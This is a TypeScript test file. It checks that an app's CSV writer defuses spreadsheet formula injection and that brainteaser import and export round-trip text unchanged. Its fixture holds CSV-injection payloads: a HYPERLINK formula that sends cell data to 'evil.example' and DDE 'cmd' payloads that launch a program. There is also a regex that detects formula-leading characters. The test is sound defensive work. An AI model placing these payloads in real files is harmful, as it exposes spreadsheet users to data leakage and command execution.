import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { exportDaily, importDaily } from '../../daily/server/brainteasers.ts'
import { readCsv, writeCsv } from '../../platform/server/csv/csv.ts'
import { DAY } from '../rig/assessment-rig.ts'
import { watchLog } from '../rig/auth-rig.ts'
import { useRig } from '../rig/rig.ts'

const rig = useRig()
watchLog(rig)

const cellsOf = (csv: string): string[] => (parse(csv) as string[][]).flat()

/** Text that Excel, LibreOffice or Sheets would run as a formula, or read as the start of one. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r\n＝＋－＠]/

const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1;"click")',
  '+351912345678',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '＝1+1',
  "'=1+1",
  "''+1",
  "O'Neill = Ana",
]

describe('formulas in CSV files', () => {
  it('are harmless in every written cell, and every text is read back unchanged', () => {
    const lead = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '＝',
      "'",
      "''",
      ' ',
      'a',
      '"',
      ',',
    )
    const cell = fc
      .tuple(lead, lead, fc.string({ maxLength: 8 }))
      .map(([first, second, rest]) => first + second + rest)
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (texts) => {
        const csv = writeCsv(
          ['text', 'end'],
          texts.map((text) => [text, '.']),
        )
        for (const written of cellsOf(csv)) expect(written).not.toMatch(RUNS_AS_FORMULA)
        const { rows } = readCsv(csv, { required: ['text', 'end'] })
        expect(rows.map(({ cells }) => cells.text)).toEqual(texts.map((text) => text.trim()))
      }),
      { seed: 20_260_302, numRuns: 300 },
    )
  })

  it('are harmless in exported brainteasers, which are read back unchanged', async () => {
    const header = ['Date', 'Statement', 'A', 'B', 'C', 'D', 'Correct', 'Explanation']
    const rows = FORMULAS.map((text, n) => [
      `${n + 1}/3/27`,
      text,
      ...FORMULAS.slice(0, 4),
      'B',
      text,
    ])
    const stored = async () => (await rig.db.$client.query('select * from daily_brainteasers')).rows
    await importDaily(rig.db, writeCsv(header, rows), DAY)
    const before = await stored()
    expect(before.map(({ statement }) => statement)).toEqual(FORMULAS)
    const csv = await exportDaily(rig.db)
    expect(cellsOf(csv).filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([])
    await rig.db.$client.query('delete from daily_brainteasers')
    await importDaily(rig.db, csv, DAY)
    expect(await stored()).toEqual(before)
  })
})
